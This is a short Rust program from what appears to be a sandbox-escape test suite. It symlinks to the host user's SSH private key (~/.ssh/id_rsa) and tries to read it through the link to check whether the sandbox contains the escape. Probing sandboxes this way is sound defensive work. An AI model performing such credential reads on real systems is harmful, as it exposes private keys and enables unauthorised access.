//! Follow a symlink out of the sandbox to a host secret.
//! Catalogue row: 7 (`research/process-tier.md` section 4).
use stockade_attacks::*;

fn main() {
    let target = format!("{}/.ssh/id_rsa", arg("home"));
    report("symlink", std::os::unix::fs::symlink(&target, "/tmp/link"));
    read_and_show("read_through_link", "/tmp/link");
}
